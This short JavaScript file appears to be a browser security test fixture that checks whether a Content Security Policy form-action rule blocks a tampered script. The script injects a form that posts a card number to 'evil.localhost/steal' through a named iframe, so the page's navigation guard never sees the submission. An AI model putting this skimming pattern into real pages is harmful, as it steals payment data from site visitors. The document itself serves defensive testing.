// The same tampered script, but the injected form posts into a named frame: a submission the
// page's own Navigation API never sees (it navigates the frame, not the page), so the navigation
// guard cannot cancel it and only the CSP (form-action) stands in the way.
window.blockedDirectives = [];
document.addEventListener('securitypolicyviolation', (event) => window.blockedDirectives.push(event.effectiveDirective));
document.addEventListener('DOMContentLoaded', () => {
  const sink = document.createElement('iframe');
  sink.name = 'sink';
  document.body.append(sink);
  const form = document.createElement('form');
  form.action = 'http://evil.localhost/steal';
  form.method = 'post';
  form.target = 'sink';
  const card = document.createElement('input');
  card.name = 'cc';
  card.value = '4111111111111111';
  form.append(card);
  document.body.append(form);
  form.submit();
  window.submitAttempted = true;
});
